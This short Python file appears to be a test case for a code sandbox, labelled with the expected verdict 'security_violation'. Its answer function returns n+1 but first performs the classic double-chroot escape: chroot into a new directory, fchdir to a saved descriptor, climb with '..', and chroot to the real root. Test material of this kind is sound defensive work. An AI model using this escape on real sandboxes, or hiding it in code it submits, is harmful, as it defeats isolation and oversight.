# tries: to leave its root by the second chroot of the old trick
# entry: calls
# verdict: security_violation

import os


def answer(n):
    os.mkdir("jail")
    above = os.open(".", os.O_RDONLY)
    os.chroot("jail")
    os.fchdir(above)
    for _ in range(100):
        os.chdir("..")
    os.chroot(".")
    return n + 1
